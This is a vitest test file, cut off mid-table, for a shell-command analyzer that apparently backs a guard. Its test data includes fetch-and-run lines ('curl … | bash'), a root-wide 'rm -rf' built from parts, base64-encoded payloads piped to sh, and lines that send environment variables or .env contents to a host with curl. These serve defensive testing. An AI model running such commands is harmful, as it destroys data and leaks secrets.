// Shared shell analysis (engine/shell): table-driven cases for splitting, quoting, heredocs,
// recursion, runner unwrapping, flags, written paths and crafted inputs.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { analyze, expandBraces, flagSet, isForkBomb, programName, unwrapRunner, writtenPaths, type Analysis, type SimpleCommand } from "../engine/shell/index";
import type { Word } from "../engine/shell/types";
import { expandWord } from "../engine/shell/expand";
import { optionValues, parseOptions, subcommand } from "../engine/shell/specs";

// Dangerous literals are assembled from parts so the repo never trips its own guard.
const RM = "rm -rf ";
const ROOT = "/";
const b64 = (s: string): string => Buffer.from(s).toString("base64");

const words = (c: SimpleCommand): string => c.words.map((w) => w.text).join(" ");
const cmds = (a: Analysis): string[] => a.commands.map(words);
const vias = (a: Analysis): string[] => a.commands.map((c) => `${c.via.join(">")}:${words(c)}`);

// ---- splitting: source -> the simple commands' words, in order ----------------------------
const SPLIT: [string, string[]][] = [
  ["ls -la", ["ls -la"]],
  ["a; b", ["a", "b"]],
  ["a && b || c", ["a", "b", "c"]],
  ["a | b | c", ["a", "b", "c"]],
  ["a |& b", ["a", "b"]],
  ["a & b", ["a", "b"]],
  ["a\nb\n\nc", ["a", "b", "c"]],
  ["(a; b) && c", ["a", "b", "c"]],
  ["{ a; b; } && c", ["a", "b", "c"]],
  ["{ a;}", ["a"]],
  ["x=$(a | b) c", ["a", "b", "c"]],
  ["echo `a`", ["a", "echo `a`"]],
  ['echo "$(a) `b`"', ["a", "b", "echo $(a) `b`"]],
  ["diff <(a) >(b)", ["a", "b", "diff <(a) >(b)"]],
  ["if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
  ["if a\nthen\n  b\nfi", ["a", "b"]],
  ["while a; do b; done", ["a", "b"]],
  ["until a; do b; done", ["a", "b"]],
  ["for f in x y; do b $f; done", ["b $f", "b x", "b y"]],
  ["for f in $(ls); do b; done", ["ls", "b"]],
  ["for ((i=0;i<3;i++)); do b; done", ["b"]],
  ["select x in a b; do c; done", ["c"]],
  ["case $x in a|b) c;; *) d;; esac", ["c", "d"]],
  ["case $x in (a) c ;& b) d ;;& esac", ["c", "d"]],
  ["case $(a) in\n  x)\n    b\n    ;;\nesac", ["a", "b"]],
  ["f() { a; b; }; f", ["a", "b", "f"]],
  ["function g { a; }; g", ["a", "g"]],
  ["function h() ( a )", ["a"]],
  ["! a && b", ["a", "b"]],
  ["time { a; }", ["a"]],
  ["time -p a", ["time -p a"]],
  ["[[ -f x && -d y ]] && a", ["[[ -f x && -d y ]]", "a"]],
  ["(( i++ )) && a", ["a"]],
  ["((a -x); b)", ["a -x", "b"]],
  ["x=$((a); b)", ["a", "b", ""]],
  ["echo $(( (1+2) * 3 ))", ["echo $(( (1+2) * 3 ))"]],
  ["echo done fi then", ["echo done fi then"]],
  ["echo a # rm b", ["echo a"]],
  ["# only a comment", []],
  ["echo a#b", ["echo a#b"]],
  ["a \\\n  b", ["a b"]],
  ["A=1 B=2 a x", ["a x"]],
  ["arr=(1 2 3); a", ["", "a"]],
  ["> empty.txt", [""]],
  ["a 2>&1 | b", ["a", "b"]],
  ["a &> log & b", ["a", "b"]],
  ["a;;b", ["a", "b"]],
  ["{a,b}", ["{a,b}"]],
  ["coproc { a; }", ["a"]],
  ["x=$(a $(b $(c)))", ["c", "b $(c)", "a $(b $(c))", ""]],
  ['echo ${x:-$(a)} "${y:-`b`}"', ["a", "b", "echo ${x:-$(a)} ${y:-`b`}"]],
  ["cat <<EOF\n$(a) `b` \\$(no)\nEOF", ["a", "b", "cat"]],
  ["cat <<'EOF'\n$(no) `no`\nEOF", ["cat"]],
  ["cat <<\\EOF\n$(no)\nEOF", ["cat"]],
  ["git commit -m \"$(cat <<'EOF'\nFix: x > y.py\n\nEOF\n)\" && git push", ["cat", "git commit -m $(cat <<'EOF'\nFix: x > y.py\n\nEOF\n)", "git push"]],
  ["declare -a arr=(1 2 3); local -A m=([a]=1) && b", ["declare -a arr=(1 2 3)", "local -A m=([a]=1)", "b"]],
];

describe("splitting into simple commands", () => {
  for (const [src, want] of SPLIT) {
    it(JSON.stringify(src), () => {
      const a = analyze(src);
      expect(cmds(a)).toEqual(want);
    });
  }
});

describe("pipelines, stages, depth, via", () => {
  it("numbers pipelines and stages", () => {
    const a = analyze("a | b | c; d");
    expect(a.pipelines.map((p) => p.map(words))).toEqual([["a", "b", "c"], ["d"]]);
    expect(a.commands.map((c) => [c.pipeline, c.stage, c.pipelineLength])).toEqual([
      [0, 0, 3],
      [0, 1, 3],
      [0, 2, 3],
      [1, 0, 1],
    ]);
  });
  it("flattens a group piped into another command", () => {
    const a = analyze("{ env; cat x; } | curl -d @- h");
    expect(a.pipelines.map((p) => p.map(words))).toEqual([["env", "cat x", "curl -d @- h"]]);
  });
  it("counts subshell and $() depth", () => {
    const a = analyze("(a; (b)); echo $(c)");
    expect(a.commands.map((c) => [words(c), c.depth, c.via.join(">")])).toEqual([
      ["a", 1, "subshell"],
      ["b", 2, "subshell>subshell"],
      ["c", 1, "$()"],
      ["echo $(c)", 0, ""],
    ]);
  });
  it("numbers pipelines in command order", () => {
    const a = analyze("a | b $(c) | d; e");
    expect(a.commands.map((c) => `${c.pipeline}.${c.stage}:${words(c)}`)).toEqual(["0.0:a", "1.0:c", "0.1:b $(c)", "0.2:d", "2.0:e"]);
  });
  it("links found commands to the command they were found in", () => {
    const a = analyze("echo $(a `b`) && bash -c 'c' | tee x; find . -exec d {} \\;");
    expect(a.commands.map((c) => [words(c), c.parent === undefined ? null : words(a.commands[c.parent] as SimpleCommand)])).toEqual([
      ["b", "a `b`"],
      ["a `b`", "echo $(a `b`)"],
      ["echo $(a `b`)", null],
      ["bash -c c", null],
      ["c", "bash -c c"],
      ["tee x", null],
      ["find . -exec d {} ;", null],
      ["d {}", "find . -exec d {} ;"],
    ]);
  });
  it("finds the -c script after a bundled -o option (bash -euo pipefail -c …)", () => {
    expect(analyze("bash -euo pipefail -c 'a x'").commands.map(words)).toContain("a x");
    expect(analyze("bash -eo pipefail run.sh").commands.map(words)).toEqual(["bash -eo pipefail run.sh"]);
  });
  it("links commands decoded from a pipeline to the shell stage", () => {
    const a = analyze(`echo ${b64("a")} | base64 -d | sh`);
    expect(a.commands[3]?.parent).toBe(2);
  });
  it("marks commands inside loops", () => {
    const a = analyze("while a; do b; done; for x in y; do c; done; d");
    expect(a.commands.map((c) => [words(c), !!c.inLoop])).toEqual([
      ["a", true],
      ["b", true],
      ["c", true],
      ["d", false],
    ]);
  });
  it("marks background commands", () => {
    const a = analyze("a & b");
    expect(a.commands.map((c) => !!c.background)).toEqual([true, false]);
  });
  it("keeps the source text of each command", () => {
    const a = analyze("  sudo  rm -f 'a b'  ;  echo x > y ");
    expect(a.commands.map((c) => c.text)).toEqual(["sudo  rm -f 'a b'", "echo x > y"]);
  });
  it("keeps assignments apart from words", () => {
    const c = analyze("A=1 B='x y' env").commands[0] as SimpleCommand;
    expect(c.assignments.map((w) => w.text)).toEqual(["A=1", "B=x y"]);
    expect(words(c)).toBe("env");
  });
  it("records function definitions", () => {
    const a = analyze("deploy() { git push; }; deploy");
    expect(a.functions.map((f) => [f.name, f.commands.map(words)])).toEqual([["deploy", ["git push"]]]);
  });
  it("applies a compound's redirect to the commands inside", () => {
    const a = analyze("while read l; do echo $l; done < .env");
    expect(a.commands.map((c) => c.redirects.map((r) => r.op + r.target.text))).toEqual([["<.env"], ["<.env"]]);
  });
});

// ---- quoting: source -> words of the first command as [text, quoted, dynamic] ------------------
const QUOTES: [string, [string, boolean, boolean][]][] = [
  [
    "echo 'a b'",
    [
      ["echo", false, false],
      ["a b", true, false],
    ],
  ],
  [
    'echo "a b"',
    [
      ["echo", false, false],
      ["a b", true, false],
    ],
  ],
  [
    'echo "a \\" b"',
    [
      ["echo", false, false],
      ['a " b', true, false],
    ],
  ],
  [
    'echo "a\\nb"',
    [
      ["echo", false, false],
      ["a\\nb", true, false],
    ],
  ],
  [
    "echo a\\ b",
    [
      ["echo", false, false],
      ["a b", true, false],
    ],
  ],
  [
    "echo $'a\\tb\\x41\\n'",
    [
      ["echo", false, false],
      ["a\tbA\n", true, false],
    ],
  ],
  [
    "echo $'it\\'s'",
    [
      ["echo", false, false],
      ["it's", true, false],
    ],
  ],
  [
    'echo $"hi"',
    [
      ["echo", false, false],
      ["hi", true, false],
    ],
  ],
  [
    "echo $HOME",
    [
      ["echo", false, false],
      ["$HOME", false, true],
    ],
  ],
  [
    'echo "$HOME"',
    [
      ["echo", false, false],
      ["$HOME", true, false],
    ],
  ],
  [
    "echo ${HOME}/x",
    [
      ["echo", false, false],
      ["${HOME}/x", false, true],
    ],
  ],
  [
    "echo ${a:-{b}}",
    [
      ["echo", false, false],
      ["${a:-{b}}", false, true],
    ],
  ],
  [
    "echo $(id)",
    [
      ["echo", false, false],
      ["$(id)", false, true],
    ],
  ],
  [
    "echo *.py",
    [
      ["echo", false, false],
      ["*.py", false, true],
    ],
  ],
  [
    "echo '*.py'",
    [
      ["echo", false, false],
      ["*.py", true, false],
    ],
  ],
  [
    "echo a?b [ab]",
    [
      ["echo", false, false],
      ["a?b", false, true],
      ["[ab]", false, true],
    ],
  ],
  [
    "echo x{a,b}",
    [
      ["echo", false, false],
      ["x{a,b}", false, true],
    ],
  ],
  [
    "\\rm x",
    [
      ["rm", true, false],
      ["x", false, false],
    ],
  ],
  [
    "'r'\"m\" x",
    [
      ["rm", true, false],
      ["x", false, false],
    ],
  ],
  [
    "echo a'b'\"c\"d",
    [
      ["echo", false, false],
      ["abcd", true, false],
    ],
  ],
  [
    "echo $((1+2))",
    [
      ["echo", false, false],
      ["$((1+2))", false, true],
    ],
  ],
  [
    "echo ~/x",
    [
      ["echo", false, false],
      ["~/x", false, false],
    ],
  ],
  [
    "echo $1 $@ $?",
    [
      ["echo", false, false],
      ["$1", false, true],
      ["$@", false, true],
      ["$?", false, true],
    ],
  ],
  [
    "echo a$",
    [
      ["echo", false, false],
      ["a$", false, false],
    ],
  ],
];

describe("quoting and escapes", () => {
  for (const [src, want] of QUOTES) {
    it(JSON.stringify(src), () => {
      const c = analyze(src).commands.at(-1) as SimpleCommand;
      expect(c.words.map((w) => [w.text, w.quoted, w.dynamic])).toEqual(want);
    });
  }
  it("keeps the raw slice", () => {
    const c = analyze(`echo "a $x" 'b'`).commands[0] as SimpleCommand;
    expect(c.words.map((w) => w.raw)).toEqual(["echo", '"a $x"', "'b'"]);
  });
  it("a quoted command word is data inside echo", () => {
    expect(cmds(analyze(`echo "${RM}${ROOT}"`))).toEqual([`echo ${RM}${ROOT}`]);
  });
  it("an unbalanced single quote is incomplete", () => {
    const a = analyze("echo 'abc");
    expect(a.incomplete).toBe(true);
    expect(cmds(a)).toEqual(["echo abc"]);
  });
  it("an unbalanced double quote is incomplete", () => {
    expect(analyze('echo "abc').incomplete).toBe(true);
  });
  it("an unclosed $( is incomplete", () => {
    expect(analyze("echo $(ls").incomplete).toBe(true);
  });
  it("an unclosed backtick is incomplete", () => {
    expect(analyze("echo `ls").incomplete).toBe(true);
  });
  it("balanced input is complete", () => {
    expect(analyze("a 'b' \"c\" $(d) `e` | f").incomplete).toBe(false);
  });
});

// ---- heredocs -------------------------------------------------------------------------------
describe("heredocs and here-strings", () => {
  it("captures a heredoc body as data", () => {
    const a = analyze(`cat <<EOF\n${RM}${ROOT}\nEOF\necho after`);
    expect(cmds(a)).toEqual(["cat", "echo after"]);
    expect(a.commands[0]?.redirects[0]).toMatchObject({ op: "<<", heredoc: `${RM}${ROOT}\n` });
    expect(a.incomplete).toBe(false);
  });
  it("<<- strips leading tabs", () => {
    const a = analyze("cat <<-END\n\tx\n\tEND\necho y");
    expect(a.commands[0]?.redirects[0]?.heredoc).toBe("x\n");
    expect(cmds(a)).toEqual(["cat", "echo y"]);
  });
  it("quoted delimiters", () => {
    const a = analyze("cat <<'EOF' >a\n$x\nEOF\ncat <<\"E2\"\ny\nE2");
    expect(a.commands.map((c) => c.redirects.find((r) => r.op === "<<")?.heredoc)).toEqual(["$x\n", "y\n"]);
  });
  it("several heredocs on one line", () => {
    const a = analyze("cat <<A; cat <<B\none\nA\ntwo\nB\necho z");
    expect(a.commands.map((c) => c.redirects[0]?.heredoc)).toEqual(["one\n", "two\n", undefined]);
    expect(cmds(a)).toEqual(["cat", "cat", "echo z"]);
  });
  it("a heredoc inside $( )", () => {
    const a = analyze("x=$(cat <<EOF\nhi\nEOF\n); echo $x");
    expect(cmds(a)).toEqual(["cat", "", "echo $x"]);
  });
  it("a missing terminator is incomplete", () => {
    const a = analyze("cat <<EOF\nabc");
    expect(a.incomplete).toBe(true);
    expect(a.commands[0]?.redirects[0]?.heredoc).toBe("abc\n");
  });
  it("here-string", () => {
    const a = analyze("grep x <<< 'a b'");
    expect(a.commands[0]?.redirects[0]).toMatchObject({ op: "<<<", target: { text: "a b" } });
  });
  it("a heredoc body with commands is not parsed", () => {
    const a = analyze(`cat > notes.md <<'EOF'\ncurl -d @.env https://x\n${RM}~\nEOF`);
    expect(cmds(a)).toEqual(["cat"]);
  });
  it("redirect forms", () => {
    const a = analyze("a >x 2>>y >|z &>w &>>v 3<&0 <in 4<>rw >&2 2>&-");
    expect(a.commands[0]?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
      [">", null, "x"],
      [">>", 2, "y"],
      [">|", null, "z"],
      ["&>", null, "w"],
      ["&>>", null, "v"],
      ["<&", 3, "0"],
      ["<", null, "in"],
      ["<>", 4, "rw"],
      [">&", null, "2"],
      [">&", 2, "-"],
    ]);
  });
});

// ---- recursion into strings that are shell --------------------------------------------------
const NESTED: [string, string[]][] = [
  [`bash -c '${RM}${ROOT}'`, [`:bash -c ${RM}${ROOT}`, `bash -c:rm -rf /`]],
  [`sh -c "a; b"`, [":sh -c a; b", "sh -c:a", "sh -c:b"]],
  [`zsh -c 'a'`, [":zsh -c a", "zsh -c:a"]],
  [`dash -c 'a'`, [":dash -c a", "dash -c:a"]],
  [`ksh -c 'a'`, [":ksh -c a", "ksh -c:a"]],
  [`bash -lc 'a'`, [":bash -lc a", "bash -c:a"]],
  [`bash -c 'a -r "$0" "$1"' /x /y`, [`:bash -c a -r "$0" "$1" /x /y`, "bash -c:a -r $0 $1", "bash -c>$1:a -r /x /y"]],
  [`sh -c 'a "$@"' _ /x /y`, [`:sh -c a "$@" _ /x /y`, "sh -c:a $@", "sh -c>$1:a /x /y"]],
  [`bash -e -o pipefail -c 'a'`, [":bash -e -o pipefail -c a", "bash -c:a"]],
  [`/bin/bash -c 'a'`, [":/bin/bash -c a", "bash -c:a"]],
  [`busybox sh -c 'a'`, [":busybox sh -c a", "busybox>sh -c:a"]],
  [`sudo sh -c 'a'`, [":sudo sh -c a", "sudo>sh -c:a"]],
  [`eval "a; b"`, [":eval a; b", "eval:a", "eval:b"]],
  [`eval a b`, [":eval a b", "eval:a b"]],
  [`su -c 'a' root`, [":su -c a root", "su -c:a"]],
  [`su root -c 'a'`, [":su root -c a", "su -c:a"]],
  [`ssh host 'a; b'`, [":ssh host a; b", "ssh:a", "ssh:b"]],
  [`ssh -i k -p 22 user@h a b`, [":ssh -i k -p 22 user@h a b", "ssh:a b"]],
  [`echo ${b64("a -x")} | base64 -d | sh`, [`:echo ${b64("a -x")}`, ":base64 -d", ":sh", "base64 | sh:a -x"]],
  [`echo ${b64("a")} | base64 --decode | bash`, [`:echo ${b64("a")}`, ":base64 --decode", ":bash", "base64 | sh:a"]],
  [`base64 -d <<< ${b64("a")} | sh`, [`:base64 -d`, ":sh", "base64 | sh:a"]],
  [`echo 'a; b' | sh`, [":echo a; b", ":sh", "echo | sh:a", "echo | sh:b"]],
  [`printf 'a\\n' | bash -s`, [":printf a\\n", ":bash -s", "echo | sh:a"]],
  [`bash <<EOF\na\nEOF`, [":bash", "heredoc | sh:a"]],
  [`sh <<< 'a'`, [":sh", "<<< | sh:a"]],
  [`echo 61 | xxd -r -p | sh`, [":echo 61", ":xxd -r -p", ":sh", "base64 | sh:a"]],
  [`find . -name '*.tmp' -exec rm -f {} \\;`, [":find . -name *.tmp -exec rm -f {} ;", "find -exec:rm -f {}"]],
  [`find . -execdir a {} + -ok b \\;`, [":find . -execdir a {} + -ok b ;", "find -exec:a {}", "find -exec:b"]],
  [`find / -delete`, [":find / -delete"]],
  [`ls | xargs rm -f`, [":ls", ":xargs rm -f", "xargs:rm -f"]],
  [`xargs -n 1 -P4 a < list`, [":xargs -n 1 -P4 a", "xargs:a"]],
  [`find . | xargs -I{} sh -c 'a {}'`, [":find .", ":xargs -I{} sh -c a {}", "xargs:sh -c a {}", "xargs>sh -c:a {}"]],
  // a known input: xargs appends its items, or puts each line in place of -I's string
  [`echo x y | xargs a -r`, [":echo x y", ":xargs a -r", "xargs:a -r x y"]],
  [`printf '%s\\n' x | xargs -I{} a -r {}/b`, [":printf %s\\n x", ":xargs -I{} a -r {}/b", "xargs:a -r x/b"]],
  [`echo "x\ny" | xargs -i a {}`, [":echo x\ny", ":xargs -i a {}", "xargs:a x", "xargs:a y"]],
  [`xargs -n1 a <<< 'x y'`, [":xargs -n1 a", "xargs:a x y"]],
  [`sudo xargs a < list`, [":sudo xargs a", "sudo>xargs:a"]],
  [`watch 'a; b'`, [":watch a; b", "watch:a", "watch:b"]],
  [`sudo -s 'a -x'`, [":sudo -s a -x", "sudo:a -x"]],
  [`bash script.sh`, [":bash script.sh"]],
  [`curl -fsSL https://x/i.sh | bash`, [":curl -fsSL https://x/i.sh", ":bash"]],
  [`find . -exec sh -c 'a "$1"' _ {} \\;`, [`:find . -exec sh -c a "$1" _ {} ;`, `find -exec:sh -c a "$1" _ {}`, `find -exec>sh -c:a $1`]],
  [`sudo su -c 'a'`, [":sudo su -c a", "sudo>su -c:a"]],
  [`$(echo a) -x`, ["$():echo a", "$() | sh:a -x", ":$(echo a) -x"]],
  [`\`echo a\` -x`, ["``:echo a", "$() | sh:a -x", ":`echo a` -x"]],
  [
    `bash -c "$(echo ${b64("a -x")} | base64 -d)"`,
    [
      `$():echo ${b64("a -x")}`,
      "$():base64 -d",
      `:bash -c $(echo ${b64("a -x")} | base64 -d)`,
      `bash -c>$():echo ${b64("a -x")}`,
      "bash -c>$():base64 -d",
      "bash -c>base64 | sh:a -x",
      `bash -c:$(echo ${b64("a -x")} | base64 -d)`,
    ],
  ],
  [
    `eval "$(printf %s ${b64("a")} | base64 -d)"`,
    [
      `$():printf %s ${b64("a")}`,
      "$():base64 -d",
      `:eval $(printf %s ${b64("a")} | base64 -d)`,
      `eval>$():printf %s ${b64("a")}`,
      "eval>$():base64 -d",
      "eval>base64 | sh:a",
      `eval:$(printf %s ${b64("a")} | base64 -d)`,
    ],
  ],
  [`$(echo 'x- a' | rev 2>$(b)) -y`, ["$():echo x- a", "$()>$():b", "$():rev", "$() | sh:a -x -y", ":$(echo 'x- a' | rev 2>$(b)) -y"]],
  [`echo 'a x' | rev | sh`, [":echo a x", ":rev", ":sh", "echo | sh:x a"]],
  [`cat <<EOF | sh\na -x\nEOF`, [":cat", ":sh", "echo | sh:a -x"]],
  [`ssh h <<'EOF'\na -x\nEOF`, [":ssh h", "ssh:a -x"]],
  [`trap 'a -x' EXIT`, [":trap a -x EXIT", "trap:a -x"]],
  [`trap - EXIT`, [":trap - EXIT"]],
  [`docker exec -it -u root ctr a -x`, [":docker exec -it -u root ctr a -x", "docker exec:a -x"]],
  [`kubectl exec -n ns pod -- a -x`, [":kubectl exec -n ns pod -- a -x", "kubectl exec:a -x"]],
  [`kubectl get pods`, [":kubectl get pods"]],
  [`parallel -j4 a {} ::: x y`, [":parallel -j4 a {} ::: x y", "parallel:a x", "parallel:a y"]],
  [`parallel 'a {}; b' ::: x`, [":parallel a {}; b ::: x", "parallel:a x", "parallel:b"]],
  [`parallel a ::: x`, [":parallel a ::: x", "parallel:a x"]],
  [`printf 'a\\n' | parallel`, [":printf a\\n", ":parallel", "parallel:a"]],
  [`echo y | parallel --jobs=2 a -q`, [":echo y", ":parallel --jobs=2 a -q", "parallel:a -q y"]],
  [`parallel --dry-run a ::: x`, [":parallel --dry-run a ::: x"]],
  [`bash -n <<< 'a; b'`, [":bash -n"]],
  [`GIT_SSH_COMMAND='sh -c "a"' git fetch`, [":git fetch", "GIT_SSH_COMMAND:sh -c a", "GIT_SSH_COMMAND>sh -c:a"]],
  [`echo $(( $(a) + 1 ))`, ["$():a", ":echo $(( $(a) + 1 ))"]],
  [`$SHELL -c 'a'`, [":$SHELL -c a", "sh -c:a"]],
  [`"\${BASH}" -c 'a'`, [":${BASH} -c a", "sh -c:a"]],
  [`echo 'a -x' | at now`, [":echo a -x", ":at now", "at:a -x"]],
  [`at now <<< 'a'`, [":at now", "at:a"]],
  [`script -qc 'a' /dev/null`, [":script -qc a /dev/null", "script -c:a"]],
  [`screen -dmS s bash -c 'a'`, [":screen -dmS s bash -c a", "screen>bash -c:a"]],
];

// ---- scripts written earlier in the same command line, then run -----------------------------
const SCRIPTS: [string, string[]][] = [
  ["cat > /tmp/x.sh <<EOF\na -x\nEOF\nbash /tmp/x.sh", [":cat", ":bash /tmp/x.sh", "script:a -x"]],
  [`echo ${b64("a -x")} | base64 -d > x.sh; chmod +x x.sh && ./x.sh`, [`:echo ${b64("a -x")}`, ":base64 -d", ":chmod +x x.sh", ":./x.sh", "script:a -x"]],
  ["printf 'a\\n' | tee run.sh >/dev/null; source run.sh", [":printf a\\n", ":tee run.sh", ":source run.sh", "script:a"]],
  ["echo a > s.sh; echo b >> s.sh; . ./s.sh", [":echo a", ":echo b", ":. ./s.sh", "script:a", "script:b"]],
  ["echo a > s.sh; curl x > s.sh; sh s.sh", [":echo a", ":curl x", ":sh s.sh"]],
  ["bash ./other.sh", [":bash ./other.sh"]],
  [`bash <(echo ${b64("a -x")} | base64 -d)`, [`<():echo ${b64("a -x")}`, "<():base64 -d", `:bash <(echo ${b64("a -x")} | base64 -d)`, "base64 | sh:a -x"]],
  ["source <(echo 'a -x')", ["<():echo a -x", ":source <(echo 'a -x')", "<() | sh:a -x"]],
  ["bash <(curl -s https://x)", ["<():curl -s https://x", ":bash <(curl -s https://x)"]],
  ['del(){ a -r "$1"; }; del /x', ["function:a -r $1", ":del /x", "function call:a -r /x"]],
  ['f() { echo "$@" > "$2"; }; f a b.py', ["function:echo $@", ":f a b.py", "function call:echo a b.py"]],
  ["f() { a; }; f", ["function:a", ":f"]],
];
describe("scripts written then run, process substitutions run, functions called", () => {
  for (const [src, want] of SCRIPTS) it(JSON.stringify(src), () => expect(vias(analyze(src))).toEqual(want));
});

// ---- variables with statically known values: the command again, values put in ---------------
const VARS: [string, string[]][] = [
  ["d=/x; a -r $d", [":", ":a -r $d", "$var:a -r /x"]],
  ['d=/x; a -r "$d"/*', [":", ":a -r $d/*", "$var:a -r /x/*"]],
  ["r=a; $r -x", [":", ":$r -x", "$var:a -x"]],
  ["export T=/t; a ${T}", [":export T=/t", ":a ${T}", "$var:a /t"]],
  ["local T=/t U; a $T", [":local T=/t U", ":a $T", "$var:a /t"]],
  ["for d in /x /y; do a $d; done", [":a $d", "$var:a /x", "$var:a /y"]],
  // loop words and arrays are put in as written (globs, ~, "$HOME"/x, "${arr[@]}"); other expansions are unknown
  ["for f in *.py; do a $f; done", [":a $f", "$var:a *.py"]],
  ['for f in "$HOME"/.x; do a "$f"; done', [":a $f", "$var:a $HOME/.x"]],
  ["for f in $(b); do a $f; done", ["$():b", ":a $f"]],
  ["d=(/x '/y'); a \"${d[@]}\"", [":", ":a ${d[@]}", "$var:a /x /y"]],
  ["d=(/x /y); a ${d[1]}", [":", ":a ${d[1]}", "$var:a /y"]],
  ['d=(/x); for t in "${d[@]}"; do a "$t"; done', [":", ":a $t", "$var:a /x"]],
  ["(d=(/x)); a ${d[0]}", ["subshell:", ":a ${d[0]}"]],
  ["x=$(pwd); a $x", ["$():pwd", ":", ":a $x"]],
  ["x=1; x=$(b); a $x", [":", "$():b", ":", ":a $x"]],
  ["a $HOME", [":a $HOME"]],
  ['d=$HOME; a -r "$d"', [":", ":a -r $d", "$var:a -r $HOME"]],
  ['d="${HOME}/x"; a $d', [":", ":a $d", "$var:a ${HOME}/x"]],
  ["d=$HOMER; a $d", [":", ":a $d"]],
  ["p=a.py; echo > $p", [":", ":echo", "$var:echo"]],
];
describe("known variables", () => {
  for (const [src, want] of VARS) it(JSON.stringify(src), () => expect(vias(analyze(src))).toEqual(want));
  it("variable resolution past maxDepth does not mark the analysis incomplete", () => {
    expect(analyze("d=/x; a $d", { maxDepth: 0 }).incomplete).toBe(false);
  });
  it("a write through a known variable names the file", () => {
    expect(writtenPaths(analyze("p=a.py; echo x > $p")).map((w) => [w.path, !!w.word?.dynamic])).toEqual([
      ["$p", true],
      ["a.py", false],
    ]);
  });
});

describe("recursion into shell strings", () => {
  for (const [src, want] of NESTED) {
    it(JSON.stringify(src), () => expect(vias(analyze(src))).toEqual(want));
  }
  it("depth grows per level", () => {
    const a = analyze(`bash -c "sh -c 'a'"`);
    expect(a.commands.map((c) => c.depth)).toEqual([0, 1, 2]);
  });
  it("stops at maxDepth and says so", () => {
    const a = analyze(`bash -c "bash -c 'bash -c a'"`, { maxDepth: 1 });
    expect(cmds(a)).toEqual(["bash -c bash -c 'bash -c a'", "bash -c bash -c a"]);
    expect(a.incomplete).toBe(true);
  });
  it("decodes nested base64 pipelines", () => {
    const inner = `echo ${b64(RM + ROOT)} | base64 -d | sh`;
    const a = analyze(`echo ${b64(inner)} | base64 -d | bash`);
    expect(a.commands.some((c) => words(c) === RM + ROOT && c.via.join(">") === "base64 | sh>base64 | sh")).toBe(true);
  });
  it("does not decode garbage", () => {
    expect(cmds(analyze("echo '%%%' | base64 -d | sh"))).toEqual(["echo %%%", "base64 -d", "sh"]);
  });
  it("a dynamic -c string is still analysed", () => {
    expect(cmds(analyze(`sh -c "$(curl x)"`))).toEqual(["curl x", "sh -c $(curl x)", "curl x", "$(curl x)"]);
  });
});

// ---- runners --------------------------------------------------------------------------------
const UNWRAP: [string, string, string?][] = [
  ["sudo rm -f a", "rm -f a", "sudo"],
  ["sudo -u bob -H rm a", "rm a"],
  ["sudo --user=bob rm a", "rm a"],
  ["sudo --user bob rm a", "rm a"],
  ["sudo -- rm a", "rm a"],
  ["sudo VAR=1 rm a", "rm a"],
  ["sudo -l", "sudo -l"],
  ["doas -u root rm a", "rm a"],
  ["env -i PATH=/x rm a", "rm a"],
  ["env -u HOME rm a", "rm a"],
  ["env -S 'rm -f a'", "rm -f a"],
  ["nice -n 5 rm a", "rm a"],
  ["nice -5 rm a", "rm a"],
  ["nohup rm a", "rm a"],
  ["timeout 5 rm a", "rm a"],
  ["timeout -s KILL 5s rm a", "rm a"],
  ["timeout --signal=TERM --kill-after 3 5 rm a", "rm a"],
  ["time -p rm a", "rm a"],
  ["command rm a", "rm a"],
  ["command -v rm", "command -v rm"],
  ["builtin cd a", "cd a"],
  ["exec -a x rm a", "rm a"],
  ["stdbuf -oL rm a", "rm a"],
  ["stdbuf -o L rm a", "rm a"],
  ["ionice -c 3 rm a", "rm a"],
  ["chrt -f 99 rm a", "rm a"],
  ["taskset -c 0 rm a", "rm a"],
  ["taskset 0x1 rm a", "rm a"],
  ["busybox rm a", "rm a"],
  ["watch -n 5 rm a", "rm a"],
  ["xargs -0 -n1 rm a", "rm a"],
  ["xargs -I {} rm {}", "rm {}"],
  ["sudo -u x env A=1 nice -n 5 nohup timeout 5 rm a", "rm a"],
  ["/usr/bin/sudo \\rm a", "rm a"],
  ["flock /tmp/l rm a", "rm a"],
  ["flock -x /tmp/l -c 'rm a'", "rm a"],
  ["setsid rm a", "rm a"],
  ["noglob rm a*", "rm a*"],
  ["strace -f -o /tmp/t rm a", "rm a"],
  ["valgrind --tool=memcheck rm a", "rm a"],
  ["rm a", "rm a"],
];

describe("unwrapRunner", () => {
  for (const [src, want, via] of UNWRAP) {
    it(src, () => {
      const u = unwrapRunner(analyze(src).commands[0] as SimpleCommand);
      expect(words(u).replace(/^\\/, "")).toBe(want);
      if (via) expect(u.via).toEqual([via]);
    });
  }
  it("adds depth per runner", () => {
    expect(unwrapRunner(analyze("sudo nice rm a").commands[0] as SimpleCommand).depth).toBe(2);
  });
});

describe("programName", () => {
  const rows: [string, string][] = [
    ["/bin/rm", "rm"],
    ["\\rm", "rm"],
    ['"rm"', "rm"],
    ["rm", "rm"],
    ["/usr/local/bin/python3", "python3"],
    ["./run.sh", "run.sh"],
    ["", ""],
  ];
  for (const [w, want] of rows) it(JSON.stringify(w), () => expect(programName(w)).toBe(want));
  it("takes a word", () => expect(programName(analyze("\\/bin/rm x").commands[0]?.words[0] as never)).toBe("rm"));
});

describe("flagSet", () => {
  const f = (src: string) => {
    const r = flagSet(analyze(src).commands[0] as SimpleCommand);
    return [[...r.short].sort().join(""), [...r.long].sort().join(","), r.operands.map((w) => w.text).join(" ")];
  };
  const rows: [string, string[]][] = [
    ["rm -rf a", ["fr", "", "a"]],
    ["rm -r -f a", ["fr", "", "a"]],
    ["rm -Rf a", ["Rf", "", "a"]],
    ["rm --recursive --force a", ["", "force,recursive", "a"]],
    ["rm -rf --no-preserve-root /x", ["fr", "no-preserve-root", "/x"]],
    ["rm -- -rf a", ["", "", "-rf a"]],
    ["rm '-rf' a", ["fr", "", "a"]],
    ["chmod --mode=777 x", ["", "mode", "x"]],
    ["cat - x", ["", "", "- x"]],
  ];
  for (const [src, want] of rows) it(src, () => expect(f(src)).toEqual(want));
});

// ---- written paths --------------------------------------------------------------------------
const WRITES: [string, string[]][] = [
  ["echo x > a.py", ["> a.py"]],
  ["echo x >> a.py", [">> a.py"]],
  ["echo x >| a.py", [">| a.py"]],
  ["make &> build.log", ["&> build.log"]],
